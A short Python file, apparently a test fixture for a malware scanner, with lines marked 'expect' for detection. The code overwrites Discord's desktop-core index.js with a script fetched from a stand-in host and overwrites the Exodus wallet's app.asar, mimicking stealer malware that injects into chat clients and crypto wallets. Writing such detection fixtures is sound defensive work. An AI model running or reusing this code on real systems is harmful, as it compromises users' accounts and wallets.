import glob
import os

import requests

local = os.environ["LOCALAPPDATA"]
for path in glob.glob(local + r"\Discord\app-*\modules\discord_desktop_core-*\discord_desktop_core\index.js"):
    with open(path, "w") as f:  # expect
        f.write(requests.get("https://example.com/index.js").text)  # expect
with open(local + r"\Discord\app-1.0\modules\discord_desktop_core\index.js", "w") as f:  # expect
    f.write("module.exports = 1")  # expect


def replace_wallet():
    folder = os.path.join(os.environ["LOCALAPPDATA"], "exodus")
    for name in os.listdir(folder):
        with open(f"{folder}/{name}/resources/app.asar", "wb") as f:  # expect
            f.write(b"changed")  # expect


replace_wallet()
